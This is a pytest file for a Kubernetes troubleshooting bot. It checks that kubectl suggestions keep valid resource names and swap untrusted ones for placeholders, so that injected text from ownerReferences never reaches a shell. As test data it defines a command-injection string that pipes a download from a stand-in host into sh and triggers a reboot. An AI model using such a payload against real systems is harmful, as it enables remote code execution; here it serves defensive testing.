import shlex

import pytest

from bot.checks import CHECKS
from bot.model import kubectl
from bot.model.judging import judge
from bot.model.policy import Policy
from tests.builders import ANOTHER_CA, a_component, a_control_plane, a_pod, a_snapshot

EVIL = "x; curl evil.example | sh; $(reboot)"


def test_names_of_kubernetes_stand_in_the_command_as_they_are() -> None:
    assert kubectl.restart("shop", "Deployment", "orders.v2") == "kubectl -n shop rollout restart deployment/orders.v2"
    assert kubectl.delete_pod("shop", "orders-7f9c-0") == "kubectl -n shop delete pod orders-7f9c-0"
    assert (
        kubectl.scale_up("dapr-system", "Deployment", "dapr-sentry") == "kubectl -n dapr-system scale deployment/dapr-sentry --replicas=1"
    )
    assert kubectl.describe_pod("shop", "orders-7f9c-0") == "kubectl -n shop describe pod orders-7f9c-0"
    assert kubectl.previous_log("shop", "orders-7f9c-0", "daprd") == "kubectl -n shop logs orders-7f9c-0 -c daprd --previous"
    assert kubectl.warnings("shop") == "kubectl -n shop get events --field-selector type=Warning --sort-by=.lastTimestamp"


@pytest.mark.parametrize("name", [EVIL, "", "-n", "a b", "a\nb", "`id`", "Großes", "x" * 254, "../x"])
def test_anything_else_is_left_for_a_person_to_fill_in(name: str) -> None:
    assert kubectl.restart(name, "Deployment", name) == "kubectl -n NAMESPACE rollout restart deployment/NAME"
    assert kubectl.delete_pod(name, name) == "kubectl -n NAMESPACE delete pod NAME"
    assert kubectl.describe_pod(name, name) == "kubectl -n NAMESPACE describe pod NAME"
    assert kubectl.previous_log(name, name, name) == "kubectl -n NAMESPACE logs NAME -c CONTAINER --previous"
    assert kubectl.warnings(name).startswith("kubectl -n NAMESPACE get events ")


def test_an_owner_that_somebody_invented_is_not_pasted_into_a_shell() -> None:
    """An ownerReference may name anything: whoever may create pods could write our next step."""
    pods = [a_pod("lost", anchors=ANOTHER_CA.roots_pem).made(workload=f"Deployment/{EVIL}")]
    sentry = a_component("sentry", workload=EVIL, kind="; reboot", ready=0, desired=0)
    snapshot = a_snapshot(pods=pods, components=a_control_plane({"sentry": sentry}))

    steps = [finding.next_step for finding in judge(snapshot, Policy(), CHECKS).findings if "kubectl" in finding.next_step]

    assert steps
    assert not [step for step in steps if {"curl", "reboot"} & set(shlex.split(step.replace("'", ""), posix=False))]
